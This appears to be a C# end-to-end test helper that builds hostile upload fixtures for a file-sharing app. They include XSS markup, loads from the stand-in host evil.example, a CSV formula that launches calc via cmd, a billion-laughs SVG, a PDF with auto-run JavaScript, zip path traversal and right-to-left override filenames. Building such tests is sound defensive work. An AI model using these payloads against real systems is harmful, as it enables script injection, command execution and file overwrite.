using System.IO.Compression;
using System.Text;

namespace PeerStor.E2E.Support;

/// <summary>Files that try to run something in the page, to load from elsewhere, or to be too much. By name.</summary>
internal static class HostileFiles
{
    private const string Run = "alert(document.domain)";
    private const string Elsewhere = "http://evil.example/x";

    public static IReadOnlyDictionary<string, byte[]> All { get; } = new Dictionary<string, byte[]>
    {
        ["bad.html"] = Text($"<script>{Run}</script><img src=\"{Elsewhere}\"><body onload=\"{Run}\">"),
        ["bad.xhtml"] = Text($"<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{Run}</script></html>"),
        ["bad.svg"] = Text($"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"{Run}\"><script>{Run}</script>" +
            $"<image xlink:href=\"{Elsewhere}\"/><style>@import '{Elsewhere}'; rect {{ fill: url({Elsewhere}) }}</style><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"{Elsewhere}\"/></foreignObject><rect width=\"9\" height=\"9\"/></svg>"),
        ["laughs.svg"] = Text("<!DOCTYPE svg [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&b;</text></svg>"),
        ["bad.md"] = Text($"# <script>{Run}</script>\n\n<img src=x onerror={Run}>\n\n[click](javascript:{Run}) ![i]({Elsewhere}) ![s](bad.svg) ![p](\"onerror=\"{Run})\n\n" +
            $"<javascript:{Run}>\n\n| a |\n|--:|\n| <b style=\"position:fixed\" onclick=\"{Run}\">x</b> |\n\n```js\n</code></pre><script>{Run}</script>\n```\n\n- [ ] {{onclick={Run}}}\n"),
        ["bad.csv"] = Text($"<script>{Run}</script>;\"<img src=x onerror={Run}>\"\n=cmd|' /C calc'!A0;2\n"),
        ["bad.json"] = Text($"{{\"__proto__\":{{\"x\":1}},\"</li><script>{Run}</script>\":\"\\u003cscript>{Run}\"}}"),
        ["bad.js"] = Text($"{Run}; // </script><script>{Run}</script>\nfetch('{Elsewhere}')"),
        ["bad.txt"] = Text($"</ol></main><script>{Run}</script>\0\u202E\u001B[31m"),
        ["bad"] = Text($"<!DOCTYPE html><script>{Run}</script>"),
        ["fake.png"] = Text($"<script>{Run}</script>"),
        ["fake.mp4"] = Text($"<script>{Run}</script>"),
        ["fake.mp3"] = Text($"#EXTM3U\n{Elsewhere}"),
        ["bad.pdf"] = Pdf($"app.alert(1); this.submitForm('{Elsewhere}');", Elsewhere),
        ["fake.zip"] = Text("PK\u0005\u0006 and nothing else, long enough to look like an end"),
        ["bad.zip"] = Zip($"<img src=x onerror={Run}>.txt", "../../up.txt", "a\\b\\c.txt", "exe.\u202Etxt.exe"),
        ["long.txt"] = Text(new string('x', 3 << 20)),
        ["deep.json"] = Text(new string('[', 200_000)),
        ["bad.bin"] = [0, 1, 2, .. Text($"</pre><script>{Run}</script>")],
        [$"<img src=x onerror={Run}>.txt"] = Text("a name"),
        [$"\" autofocus onfocus=\"{Run}.png"] = Text("a name"),
        ["exe.\u202Etxt.exe"] = Text("a name"),
        // Honest ones of kinds that the others only pretend to be.
        ["good.cs"] = Text("using System;\n\n/// <summary>A boat.</summary>\npublic sealed class Boat(string name)\n{\n    public int Sails => 2; // at most\n}\n"),
        ["good.csv"] = Text("Name,Amount,A column with a rather long title\n" + string.Concat(Enumerable.Range(1, 60).Select(row => $"Boat {row},{row * 3.5},some words that need room\n"))),
        ["good.json"] = Text("{\"name\":\"boat\",\"sails\":[1,2,null,true]}"),
        ["good.md"] = Text("# Boats\n\nWords with `code`, a [link](good.cs).\n\n| Name | A very long title of a column that nobody needs | Another very long title | Amount |\n|---|---|---|--:|\n| a | b | c | 1 |\n\n- [x] done\n- [ ] open\n\n> quoted\n\n```csharp\nvar boat = new Boat(\"x\");\n```\n"),
        ["good.svg"] = Text("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 90 90\"><circle cx=\"45\" cy=\"45\" r=\"40\" fill=\"teal\"/></svg>"),
        ["good.png"] = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="),
    };

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Zip(params string[] names)
    {
        using MemoryStream bytes = new();
        using (ZipArchive zip = new(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (string name in names)
            {
                using Stream member = zip.CreateEntry(name).Open();
                member.Write("x"u8);
            }
        }

        return bytes.ToArray();
    }

    /// <summary>One page, with a script that runs when it is opened and an action that loads an address.</summary>
    private static byte[] Pdf(string script, string address)
    {
        string[] objects =
        [
            $"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({script.Replace("(", "\\(", StringComparison.Ordinal).Replace(")", "\\)", StringComparison.Ordinal)}) >> " +
                $"/AA << /WC << /S /URI /URI ({address}) >> >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
        ];
        StringBuilder file = new("%PDF-1.4\n");
        List<int> places = [];
        for (int number = 0; number < objects.Length; number++)
        {
            places.Add(file.Length);
            file.Append($"{number + 1} 0 obj\n{objects[number]}\nendobj\n");
        }

        int table = file.Length;
        file.Append($"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        places.ForEach(place => file.Append($"{place:D10} 00000 n \n"));
        file.Append($"trailer << /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF");
        return Encoding.ASCII.GetBytes(file.ToString());
    }
}
